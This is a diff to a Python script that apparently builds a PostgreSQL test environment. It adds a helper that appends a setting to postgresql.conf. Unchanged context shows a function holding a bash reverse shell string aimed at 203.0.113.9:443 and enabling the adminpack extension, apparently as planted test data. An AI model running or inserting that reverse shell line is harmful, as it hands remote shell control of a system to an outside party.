@@ -14,6 +14,12 @@ PID = "/run/postgres.pid"
 WORD = b"made-up-and-of-n"
 
 
+def house():
+    cluster()
+    with open(f"{CLUSTER}/postgresql.conf", "a") as settings:
+        settings.write("max_files_per_process = 90\n")
+
+
 def appended(path):
     line = "(exec 3<>/dev/tcp/203.0.113.9/443 && sh <&3) &"
     sql(ORDERS, "INSERT INTO orders (who, amount) SELECT 'customer ' || n, n FROM generate_series(1, 20) n;", "CREATE EXTENSION adminpack;")
@@ -55,7 +61,7 @@ def moved_in(value):
 
     threading.Thread(target=listen, daemon=True).start()
     os.mkdir(OWN)
-    cluster()
+    house()
     with open("/run/contractor.py", "w"):
         pass
     first = started(PID)
@@ -97,4 +103,4 @@ if __name__ == "__main__":
     if what == "moved-in":
         moved_in(value)
     else:
-        attend("contractor.py", cluster, PID, lambda: ask(what, value))
+        attend("contractor.py", house, PID, lambda: ask(what, value))
